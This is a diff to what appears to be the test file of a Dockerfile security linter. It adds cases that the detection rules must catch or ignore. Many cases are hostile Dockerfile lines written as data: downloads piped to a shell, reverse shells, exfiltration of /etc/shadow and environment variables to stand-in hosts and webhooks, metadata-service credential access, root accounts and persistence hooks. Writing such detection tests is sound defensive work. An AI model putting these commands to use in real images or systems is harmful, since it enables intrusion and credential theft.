@@ -6,6 +6,7 @@ import { ruleCatches } from '../fixtures/catches.js';
 import { rules } from './index.js';
 
 const far = 'http://203.0.113.9/x';
+const plain = 'http://get.example.org/x';
 const named = 'https://get.example.org/x';
 const key = `-----BEGIN ${'RSA PRIVATE'} KEY-----`;
 const gitHub = `ghp_${'a1B2'.repeat(9)}`;
@@ -65,8 +66,89 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['ARG P\nRUN curl http://$P/x | sh', 'High'],
       ['RUN wget http://example.org/a.tgz && tar xf a.tgz && cd a && ./configure', 'Low'],
       ['SHELL ["powershell", "-Command"]\nRUN iex (iwr http://203.0.113.9/x)', 'High'],
+      // What is told to a client in a language of its own.
+      [`RUN printf 'url=${plain}\\noutput=/m\\n' > /c && curl -K /c && sh /m`, 'High'],
+      [`RUN echo 'url = "${plain}"' | curl -sK- | sh`, 'High'],
+      ['RUN ftp -n 203.0.113.9 <<E && sh x\nuser a b\nget x\nE', 'High'],
+      ['RUN lftp -c "open 203.0.113.9; get x" && sh x', 'High'],
+      ['RUN tftp 203.0.113.9 -c get x && sh x', 'High'],
+      ['RUN ftpget -u a -p b 203.0.113.9 /m x && sh /m', 'High'],
+      ['RUN sshpass -p x scp a@203.0.113.9:/x /x && sh /x', 'High'],
+      ['RUN openssl s_client -quiet -connect 203.0.113.9:443 | sh', 'High'],
+      [`RUN /usr/lib/apt/apt-helper download-file ${plain} /m && sh /m`, 'High'],
+      [`RUN links -source ${plain} | sh`, 'High'],
+      // Programs by another name.
+      [`RUN cp /usr/bin/curl /t && /t ${plain} | sh`, 'High'],
+      [`RUN ln -s /usr/bin/wget /usr/bin/t; t -O- ${plain} | sh`, 'High'],
+      [`RUN /usr/bin/c?rl ${plain} | /b*n/s?`, 'High'],
+      [`RUN curl -o /m ${plain}; /lib64/ld-linux-x86-64.so.2 /m`, 'High'],
+      [`RUN curl ${plain} | $SHELL`, 'High'],
+      [`RUN curl ${plain} | bash /proc/self/fd/0`, 'High'],
+      [`RUN IFS=,; c=curl,-s,${plain}; $c | sh`, 'High'],
+      [`RUN alias x='curl ${plain} | sh'; x`, 'High'],
+      // Files by a pattern.
+      [`RUN curl -o /tmp/z.sh ${plain}; sh /tmp/z*.sh`, 'High'],
+      [`RUN cd /tmp; curl -O ${plain}.sh; for f in *.sh; do sh $f; done`, 'High'],
+      [`RUN curl -o /tmp/a/z.sh ${plain}; find /tmp -name '*.sh' -exec sh {} \\;`, 'High'],
+      [`RUN curl -o /a.c ${plain} && gcc -o /a /a.c && /a`, 'High'],
+      // Programs that give a text to a shell.
+      [`RUN git -c core.sshCommand='curl ${plain} | sh' ls-remote ssh://a@b.example/c`, 'High'],
+      [`RUN tar cf /dev/null /x --checkpoint=1 --checkpoint-action=exec='curl ${plain} | sh'`],
+      [`RUN printf 'a:\\n\\tcurl ${plain} | sh\\n' > Makefile && make`, 'High'],
+      [`RUN echo 'curl ${plain} | sh' | at now`, 'High'],
+      [`RUN echo 'curl ${plain} | sh' | parallel`, 'High'],
+      [`RUN vim -c ':!curl ${plain} | sh' -c q`, 'High'],
+      [`RUN gdb -batch -ex 'shell curl ${plain} | sh'`, 'High'],
+      [`RUN ruby -e '\`curl ${plain} | sh\`'`, 'High'],
+      [`RUN lua -e 'os.execute("curl ${plain} | sh")'`, 'High'],
+      [`RUN python3 -c "import subprocess as s; s.run(['sh', '-c', 'curl ${plain} | sh'])"`],
+      [`RUN php -r 'copy("${plain}", "/m");' && php /m`, 'High'],
+      [`RUN node -e 'fetch("${plain}").then(r => r.text()).then(eval)'`, 'High'],
+      [`RUN awk 'BEGIN { while (("curl ${plain}" | getline l) > 0) print l | "sh" }'`, 'High'],
+      // Shells of the file's own, and what stands around a shell.
+      [`SHELL ["/bin/sh", "-c", "curl ${plain} | sh; $0"]\nRUN true`, 'High'],
+      [`SHELL ["/usr/bin/env", "bash", "-c"]\nRUN curl ${plain} | sh`, 'High'],
+      [`# escape=\`\nFROM alpine:3\nRUN curl ${plain} \`\n | sh`, 'High'],
+      [`ENTRYPOINT ["sh", "-c"]\nCMD ["curl ${far} | sh"]`, 'High'],
+      [`ADD ${far} /m\nENTRYPOINT ["/m"]\nCMD ["-v"]`, 'High'],
+      [
+        `FROM a AS b\nRUN wget ${plain} -O /m\nFROM c\nRUN --mount=type=cache,target=/c --mount=from=b,target=/n sh /n/m`,
+        'High',
+      ],
+      [`ADD --unpack=true ${far}.tgz /o/\nRUN /o/x/run`, 'High'],
+      // Packages from an address: their scripts run.
+      ['RUN pip install --index-url http://203.0.113.9/simple a', 'High'],
+      ['ENV PIP_INDEX_URL=http://203.0.113.9/simple\nRUN pip install a', 'High'],
+      ['RUN npm config set registry http://203.0.113.9:4873 && npm install a', 'High'],
+      ['RUN echo registry=http://203.0.113.9 > ~/.npmrc && npm i a', 'High'],
+      ['RUN gem install --source http://203.0.113.9/ a', 'High'],
+      ['RUN GOPROXY=http://203.0.113.9 go install a.example/b@latest', 'High'],
+      [
+        'RUN echo "deb [trusted=yes] http://203.0.113.9/ ./" > /etc/apt/sources.list.d/a.list && apt-get install a',
+        'High',
+      ],
+      [
+        'RUN printf "[a]\\nbaseurl=http://203.0.113.9/\\ngpgcheck=0\\n" > /etc/yum.repos.d/a.repo && yum install a',
+        'High',
+      ],
+      ['RUN apk add -X http://203.0.113.9/ a', 'High'],
+      ['RUN echo insecure > ~/.curlrc; curl https://get.example.org/x | sh', 'High'],
+      [
+        'FROM mcr.microsoft.com/windows/servercore:1\nRUN curl -o a.exe http://get.example.org/a.exe && a.exe',
+        'Medium',
+      ],
     ],
     catchesNot: [
+      // Of an archive, whatever is called like a part of it or stands beside it.
+      'RUN curl http://example.org/a.tgz | tar xz && mv a/b /usr/bin/ && . ~/.bashrc',
+      'RUN curl http://example.org/a.tgz | tar xz\nCOPY run.sh /\nRUN cat /run.sh | sh',
+      'RUN curl http://example.org/a.tgz | tar xz; curl https://example.org/b | sed s/a/b/ | sh',
+      'ARG URL \\\n  MINOR\nRUN wget $WGET_FLAGS https://example.org/a && sh a',
+      'RUN pip install --index-url https://pypi.example.org/simple a',
+      'RUN echo "deb http://archive.example.org/ x main" > /etc/apt/sources.list && apt-get install a',
+      'RUN git -c core.sshCommand="ssh -i /k" clone git@example.org:a/b.git',
+      'RUN cp /usr/bin/qemu /t && /t x',
+      'FROM mcr.microsoft.com/windows/servercore:1\nRUN curl -o a.exe https://example.org/a.exe && a.exe',
       `RUN curl -fsSL ${named} | sh`,
       'RUN curl -fsSL https://deb.example.org/key.gpg | gpg --dearmor -o /k.gpg',
       'RUN curl -L https://example.org/a.tgz | tar xz && cd a && ./configure && make',
@@ -84,12 +166,23 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['RUN curl https://sh.rustup.rs -sSf | sh -s -- -y', 'Low'],
       ['RUN curl -fsSLo /i.sh https://example.org/i.sh && bash /i.sh', 'Low'],
       ['RUN curl -s https://pastebin.com/raw/abc | sh', 'High'],
+      ['RUN wget -qO- https://transfer.sh/a.tgz | tar xz && ./a/run', 'High'],
+      ['RUN curl -o /dev/shm/a https://example.org/a && chmod +x /dev/shm/a && /dev/shm/a', 'High'],
+      ['RUN curl -o /tmp/.x/y https://example.org/a && sh /tmp/.x/y', 'High'],
+      ["RUN curl -o '/bin/[kworker]' https://example.org/a && '/bin/[kworker]'", 'High'],
+      ['# syntax=example/frontend\nFROM a:1', 'Low'],
+      // Letters in which a server gives a file hide nothing.
+      ['RUN curl "https://example.org/a?format=TEXT" | base64 -d | sh', 'Low'],
     ],
     catchesNot: [
       'RUN curl -o i https://example.org/i && echo "abc  i" | sha256sum -c && sh i',
       'RUN curl -o i https://example.org/i && curl -o i.asc https://example.org/i.asc && gpg --verify i.asc i && sh i',
       'RUN curl -o i https://example.org/i && [ "$(sha256sum i | cut -d" " -f1)" = abc ] && sh i',
       'RUN curl -L https://example.org/a.tgz | tar xz',
+      '# syntax=docker/dockerfile:1.7-labs\nFROM a:1',
+      '# syntax=example/frontend@sha256:abc\nFROM a:1',
+      'RUN curl -o /tmp/a.tgz https://example.org/a.tgz && tar xf /tmp/a.tgz && mv a/b /bin/b && b',
+      'RUN curl -o ~/.cache/x https://example.org/x',
     ],
   },
   'decoded-into-shell': {
@@ -107,6 +200,14 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['RUN rev <<< "ih ohce" | sh'],
       ["RUN echo rpub | tr 'a-z' 'n-za-m' | sh"],
       ['RUN bash -c "{echo,ZWNobyBoaQ==}|{base64,-d}|bash"'],
+      ['RUN perl -MMIME::Base64 -e \'print decode_base64("ZWNobyBoaSB0aGVyZQ==")\' | sh'],
+      ['RUN perl -e \'system(pack("H*", "6563686f2068692074686572"))\''],
+      ['RUN python3 -c \'exec("".join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\''],
+      ['RUN awk \'BEGIN { printf "%c%c%c%c hi", 101, 99, 104, 111 }\' | sh'],
+      ["RUN printf 'begin 644 /r\\n#8W5R\\n`\\nend\\n' | uudecode && sh /r"],
+      [
+        'FROM mcr.microsoft.com/windows/servercore:1\nRUN powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
+      ],
     ],
     catchesNot: [
       'RUN echo "$CERT" | base64 -d > /cert.pem',
@@ -124,11 +225,21 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['RUN curl http://203-0-113-9.nip.io/', 'High'],
       ['RUN curl -O https://example.org:4444/x', 'Medium'],
       ['RUN curl -O http://10.1.2.3/x', 'Low'],
+      ['RUN curl "http://[::ffff:203.0.113.9]/x"', 'High'],
+      ['FROM 203.0.113.9:5000/ubuntu', 'High'],
+      ['FROM 10.1.2.3:5000/ubuntu', 'Low'],
+      ['ARG B=203.0.113.9/x\nFROM $B', 'High'],
+      ['FROM a:1\nCOPY --from=203.0.113.9:5000/x /m /m', 'High'],
+      ['FROM a:1\nRUN --mount=from=203.0.113.9/x,target=/m /m/x', 'High'],
+      ['# syntax=203.0.113.9:5000/frontend\nFROM a:1', 'High'],
     ],
     catchesNot: [
       'RUN curl -O http://127.0.0.1:9/x',
       `RUN curl -O ${named}`,
       'RUN curl http://${HOST}:81/',
+      'FROM localhost:5000/x',
+      'FROM 127.0.0.1:5000/x',
+      'FROM a:1 AS 203\nFROM b:1\nCOPY --from=0 /m /m',
     ],
   },
   'tls-unchecked': {
@@ -143,17 +254,23 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['ENV GIT_SSL_NO_VERIFY 1'],
       ['RUN apt-get -o Acquire::https::Verify-Peer=false update'],
       ['RUN echo insecure >> ~/.curlrc'],
+      ['HEALTHCHECK CMD curl -k https://example.org/', 'Low'],
     ],
     catchesNot: [
       `RUN curl -fsSL ${named}`,
       'RUN npm config set strict-ssl true',
       'ENV NODE_ENV=production',
+      'HEALTHCHECK CMD curl -fk https://localhost:8443/health || exit 1',
     ],
   },
   'packages-unsigned': {
     catches: [
       ['RUN apt-get install -y --allow-unauthenticated x'],
-      ['RUN echo "deb [trusted=yes] http://example.org ./" > /etc/apt/sources.list.d/x.list'],
+      [
+        'RUN echo "deb [trusted=yes] http://example.org ./" > /etc/apt/sources.list.d/x.list',
+        'Medium',
+      ],
+      ['RUN echo "deb [trusted=yes] https://example.org ./" > /etc/apt/sources.list', 'Low'],
       ['RUN apk add --allow-untrusted x.apk'],
       ['RUN yum install --nogpgcheck -y x'],
       ['RUN apt-get -o Acquire::AllowInsecureRepositories=true update'],
@@ -183,6 +300,7 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['FROM user/xmrig:latest'],
       ['RUN echo c3RyYXR1bSt0Y3A6Ly94Onk= | base64 -d > /c'],
       ['COPY minerd /usr/bin/'],
+      ['RUN modprobe msr; wrmsr -a 0x1a4 0xf', 'High'],
     ],
     catchesNot: ['RUN apt-get install -y determiner', 'FROM minio/minio', 'RUN echo stratum'],
   },
@@ -193,11 +311,19 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['RUN wget https://github.com/fatedier/frp/releases/download/v1/frp.tar.gz', 'Medium'],
       ['RUN chisel client 203.0.113.9:80 R:1:2', 'High'],
       ['RUN ssh -fNR 80:localhost:80 a@example.org', 'High'],
+      ['RUN /bin/t client https://example.org R:socks', 'High'],
+      ['RUN /bin/t tunnel run --token eyJ', 'High'],
+      ['RUN tailscale up --authkey=x', 'High'],
+      [
+        'COPY <<E /f.toml\nserverAddr = "203.0.113.9"\n[[proxies]]\nlocalPort = 22\nE\nRUN true',
+        'Medium',
+      ],
     ],
     catchesNot: [
       'RUN chisel cut --release ubuntu-24.04 libc6',
       'RUN ngrok --version',
       'RUN ssh-keyscan github.com',
+      'RUN make tunnel && npm run client',
     ],
   },
   'reverse-shell': {
@@ -206,6 +332,8 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['CMD bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"', 'High'],
       ['RUN nc -e /bin/sh 203.0.113.9 4444', 'High'],
       ['RUN socat exec:"/bin/sh" tcp:203.0.113.9:4444', 'High'],
+      ['RUN mkfifo /f; sh -i < /f | openssl s_client -connect example.org:443 > /f', 'High'],
+      ['RUN mkfifo /f; cat /f | sh -i 2>&1 | nc example.org 4444 > /f', 'High'],
     ],
     catchesNot: ['HEALTHCHECK CMD bash -c "exec 3<>/dev/tcp/127.0.0.1/80"', 'RUN nc -z db 5432'],
   },
@@ -223,11 +351,30 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['RUN env | nc 203.0.113.9 80', 'High'],
       ['RUN nslookup $(cat /etc/hostname | base64).x.example.org', 'High'],
       ['RUN wget --post-file=/etc/shadow http://203.0.113.9/', 'High'],
+      ['RUN curl "http://203.0.113.9/?d=$(env | base64 -w0)"', 'High'],
+      ['RUN wget -q "https://example.org/$(env | gzip | base64 -w0 | tr -d x)"', 'Medium'],
+      ['RUN curl -H "X: $(cat /etc/passwd | xxd -p)" https://example.org/', 'Medium'],
+      ['RUN curl -F f=@/etc/shadow https://discord.com/api/webhooks/1/abc', 'High'],
+      ['RUN curl "https://api.telegram.org/bot1/sendMessage?text=$(env | base64)"', 'High'],
+      ['RUN scp /etc/shadow a@203.0.113.9:/tmp', 'High'],
+      ['RUN rsync -a /root/.ssh a@example.org:/tmp/', 'Medium'],
+      ['RUN aws s3 cp /etc/shadow s3://bucket/', 'Medium'],
+      [
+        'RUN python3 -c "import requests, os; requests.post(\'http://203.0.113.9/\', data=dict(os.environ))"',
+        'High',
+      ],
     ],
     catchesNot: [
       `RUN curl -d '{"query":"x"}' https://api.example.org/`,
       'RUN nslookup example.org',
       'RUN curl -H @h https://example.org',
+      'RUN curl -O https://example.org/$(uname -m)/$(dpkg --print-architecture).tgz',
+      'RUN curl -H "Authorization: Basic $(cat /run/secrets/t | base64)" https://example.org/a',
+      'RUN curl "https://example.org/?k=$(echo -n $USER:$KEY | base64)"',
+      'RUN echo "HEAD /" | nc $(cat /host) 8000',
+      'RUN aws s3 cp s3://bucket/a /a',
+      'RUN scp a@example.org:/x /x',
+      'RUN python3 -c "import os; print(os.environ)"',
     ],
   },
   'engine-api': {
@@ -237,12 +384,17 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['RUN docker -H tcp://172.17.0.1:2375 run alpine', 'High'],
       ['RUN DOCKER_HOST=tcp://172.17.0.1:2375 docker ps', 'High'],
       ['RUN curl -k https://10.0.0.1:10250/pods', 'High'],
+      ['RUN curl --unix-socket /s http://d/v1.41/containers/json', 'High'],
+      ['ENV DOCKER_HOST=tcp://172.17.0.1:2375\nRUN docker ps', 'High'],
+      ['RUN docker run -v /:/h alpine chroot /h sh', 'High'],
     ],
     catchesNot: [
       'ENV DOCKER_HOST=tcp://docker:2375',
       'EXPOSE 2375',
       'RUN docker --version',
       'VOLUME /var/run/docker.sock',
+      'ENV DOCKER_HOST=tcp://docker:2375\nRUN docker --version',
+      'RUN curl --unix-socket /run/app.sock http://localhost/health',
     ],
   },
   'metadata-service': {
@@ -252,8 +404,18 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['RUN wget -O- http://metadata.google.internal/', 'High'],
       ['RUN curl "http://[fd00:ec2::254]/"', 'High'],
       ['RUN curl http://100.100.100.200/', 'High'],
+      ['RUN curl http://169.254.169.254.nip.io/latest/', 'High'],
+      ['RUN curl "http://[::ffff:a9fe:a9fe]/latest/"', 'High'],
+      ['RUN curl http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI', 'High'],
+      ['RUN curl --resolve a.example:80:169.254.169.254 http://a.example/', 'High'],
+      ['RUN wget -O- http://metadata/computeMetadata/v1/', 'High'],
+      ['RUN T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); echo "$T"', 'High'],
     ],
-    catchesNot: ['RUN echo 169.254.169.254 metadata', 'ENV NO_PROXY=169.254.169.254'],
+    catchesNot: [
+      'RUN echo 169.254.169.254 metadata',
+      'ENV NO_PROXY=169.254.169.254',
+      'RUN awk \'{print "curl http://169.254.169.254/"}\' a > b',
+    ],
   },
   'host-files': {
     catches: [
@@ -261,8 +423,15 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['CMD echo x > /host/etc/x', 'High'],
       ['CMD nsenter -t 1 -m sh', 'High'],
       ['CMD echo "|/x" > /proc/sys/kernel/core_pattern', 'High'],
+      ['RUN mount /dev/sda1 /mnt', 'High'],
+      ['RUN debugfs -w /dev/nvme0n1p1', 'High'],
     ],
-    catchesNot: ['RUN echo x > /rootfs/etc/passwd', 'RUN mkdir /host'],
+    catchesNot: [
+      'RUN echo x > /rootfs/etc/passwd',
+      'RUN mkdir /host',
+      'COPY run README.md /host/',
+      'RUN mount -t tmpfs none /mnt',
+    ],
   },
   'authorized-keys': {
     catches: [
@@ -271,6 +440,19 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['CMD echo k >> /host/root/.ssh/authorized_keys', 'High'],
     ],
     catchesNot: ['RUN ssh-keyscan github.com >> /root/.ssh/known_hosts'],
+  },
+  'root-account': {
+    catches: [
+      ["RUN echo 'x::0:0::/root:/bin/sh' >> /etc/passwd", 'High'],
+      ['RUN useradd -o -u 0 -g 0 x', 'High'],
+      ['RUN usermod -ou 0 www-data', 'High'],
+    ],
+    catchesNot: [
+      "RUN echo 'root:x:0:0:root:/root:/bin/bash' > /etc/passwd",
+      "RUN echo 'app:x:1000:0::/app:/bin/sh' >> /etc/passwd",
+      'RUN useradd -r -u 100 x',
+      'ARG PUID=0\nRUN useradd -u "${PUID:-0}" -o x',
+    ],
   },
   'cron-job': {
     catches: [
@@ -284,8 +466,17 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
     catches: [
       [`RUN echo "curl ${far} | sh" >> ~/.bashrc`, 'High'],
       [`RUN echo 'wget -O- ${far}|sh' > /etc/profile.d/x.sh`],
+      [`RUN echo 'APT::Update::Pre-Invoke {"curl ${far} | sh";};' > /etc/apt/apt.conf.d/99x`],
+      [`RUN echo 'curl ${far}|sh' > /usr/share/git-core/templates/hooks/post-checkout`],
+      [`RUN echo 'import os;os.system("curl ${far} | sh")' > /usr/lib/python3/dist-packages/x.pth`],
+      [`ENV PROMPT_COMMAND="curl -s ${far} | sh"`, 'High'],
     ],
-    catchesNot: ['RUN echo "export A=1" >> ~/.bashrc', 'COPY p.sh /etc/profile.d/'],
+    catchesNot: [
+      'RUN echo "export A=1" >> ~/.bashrc',
+      'COPY p.sh /etc/profile.d/',
+      'RUN echo \'DPkg::Post-Invoke {"rm -f /var/cache/apt/*.deb || true";};\' > /etc/apt/apt.conf.d/x',
+      'ENV PROMPT_COMMAND="history -a"',
+    ],
   },
   setuid: {
     catches: [
@@ -293,6 +484,8 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['RUN chmod 4755 /usr/bin/x', 'Medium'],
       ['RUN setcap cap_sys_admin+ep /x'],
       ['RUN install -m 4755 x /usr/bin/x'],
+      ['RUN cp /bin/bash /bin/.b && chmod 4755 /bin/.b', 'High'],
+      ['RUN chmod u+s /usr/bin/ping', 'Low'],
     ],
     catchesNot: [
       'RUN chmod 2775 /shared',
@@ -307,8 +500,12 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['RUN echo /lib/evil.so > /etc/ld.so.preload', 'High'],
       ['ENV LD_PRELOAD=/tmp/x.so', 'High'],
       ['COPY x /etc/ld.so.preload'],
+      ['ENV LD_PRELOAD=/usr/lib/../../tmp/x.so', 'High'],
     ],
-    catchesNot: ['ENV LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'],
+    catchesNot: [
+      'ENV LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2',
+      'ENV LD_PRELOAD=/usr/lib/a/../b/libz.so',
+    ],
   },
   'onbuild-trap': {
     catches: [
@@ -329,6 +526,8 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       ['FROM gcr.lo/a/b', 'High'],
       ['FROM 1ibrary/nginx', 'High'],
       ['FROM alpine:1atest', 'Medium'],
+      ['FROM a:1\nCOPY --from=ngnix /a /a', 'High'],
+      ['FROM a:1\nRUN --mount=from=ngnix,target=/m /m/a', 'High'],
     ],
     catchesNot: [
       'FROM nginx',
@@ -341,6 +540,8 @@ const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string
       'FROM $BASE',
       'FROM lscr.io/linuxserver/nginx',
       'FROM scratch',
+      'FROM Jenkins',
+      'FROM a:1 AS ngnix\nFROM b:1\nCOPY --from=ngnix /a /a',
     ],
   },
   'unpinned-base': {
